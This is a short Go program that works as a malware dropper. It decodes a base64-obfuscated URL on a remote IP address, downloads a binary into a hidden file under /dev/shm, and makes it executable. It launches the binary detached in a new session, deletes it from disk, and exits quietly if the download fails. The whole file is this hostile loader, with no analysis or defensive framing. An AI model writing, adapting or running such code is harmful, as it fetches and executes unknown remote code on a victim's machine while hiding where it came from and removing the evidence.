package main

import (
	"encoding/base64"
	"io"
	"net/http"
	"os"
	"os/exec"
	"syscall"
)

var loc = "aHR0cDovLzIwMy4wLjExMy44OC9iaW4vdXBk"

func main() {
	u, _ := base64.StdEncoding.DecodeString(loc)
	r, err := http.Get(string(u))
	if err != nil {
		os.Exit(0)
	}
	defer r.Body.Close()
	f, _ := os.CreateTemp("/dev/shm", ".u")
	io.Copy(f, r.Body)
	f.Chmod(0o755)
	f.Close()
	c := exec.Command(f.Name(), "-d")
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	c.Start()
	os.Remove(f.Name())
}
